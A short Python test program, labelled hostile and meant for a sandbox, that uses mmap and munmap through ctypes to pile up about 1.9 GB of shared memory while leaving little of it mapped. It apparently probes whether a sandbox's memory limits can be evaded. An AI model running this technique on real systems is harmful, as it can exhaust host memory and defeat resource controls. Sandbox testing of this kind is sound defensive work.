# HOSTILE TEST PROGRAM - run only inside a sandbox.
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
size = 32 << 20
for _ in range(60):
    at = libc.mmap(None, size, 3, 0x21, -1, 0)
    ctypes.memset(at, 1, size)
    libc.munmap(at + 4096, size - 4096)
print("ESCAPED: 1.9 GB of shared memory that is hardly mapped")
